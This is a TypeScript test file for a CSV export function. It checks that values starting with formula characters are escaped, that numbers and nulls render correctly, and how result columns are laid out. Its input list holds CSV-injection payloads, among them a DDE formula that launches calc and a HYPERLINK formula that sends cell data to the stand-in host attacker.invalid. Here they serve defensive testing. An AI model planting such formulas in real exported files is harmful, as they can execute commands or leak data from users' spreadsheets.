import assert from "node:assert/strict";
import { test } from "node:test";
import { parse } from "csv-parse/sync";
import { csvLine } from "#domain/csv-line.ts";
import { cellsOf, fieldsOf, tableColumns } from "#domain/result-table.ts";
import { NumberText, parseJsonText } from "#lib/json-text.ts";

/** Of PayloadsAllTheThings and OWASP, CSV injection: what spreadsheets ran. */
const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://attacker.invalid?leak="&A1,"click")',
  "＝1+1",
  "-5",
  "+49 30 1234",
];

test("no text of a target becomes a formula, and every text comes back", () => {
  for (const text of FORMULAS) {
    const [line] = parse(csvLine([text]), { record_delimiter: "\r\n" });
    assert.deepEqual(line, [`'${text}`]);
  }
  for (const text of ["a=1", " =1", "'=1", "", 'say "hi", twice', "two\r\nlines", "ünïcødé 😀", ";=1"])
    assert.deepEqual(parse(csvLine([text, "x"]), { record_delimiter: "\r\n" }), [[text, "x"]]);
});

test("numbers stay numbers, also below zero and with many digits; nothing is nothing", () => {
  const numbers = ["-5", "0.10", "9007199254740993", "1e400"].map((text) => new NumberText(text));
  assert.equal(csvLine([...numbers, true, null, "x"]), '-5,0.10,9007199254740993,1e400,true,,"x"\r\n');
});

test("columns are the keys of all data as they were first seen; ours step aside for the data's", () => {
  const records = [
    { data: { b: 1, a: { deep: [1, 2.5] } }, errors: [], isValid: true },
    {
      data: { a: null, is_valid: "own", b: "-" },
      errors: [
        { field: "a", code: "required", message: "is missing" },
        { field: null, code: "rule", message: "=no" },
      ],
      isValid: false,
    },
  ].map((record) => parseJsonText(JSON.stringify(record), { depthMax: 20, valuesMax: 100 }));
  const columns = tableColumns(new Set(records.flatMap((record) => [...fieldsOf(record)])));
  assert.deepEqual(columns.headings, ["b", "a", "is_valid", "_is_valid", "errors"]);
  assert.deepEqual(
    records.map((record) => csvLine(cellsOf(record, columns))),
    [`1,"{""deep"":[1,2.5]}",,true,\r\n`, `"'-",,"own",false,"a: is missing; =no"\r\n`],
  );
});
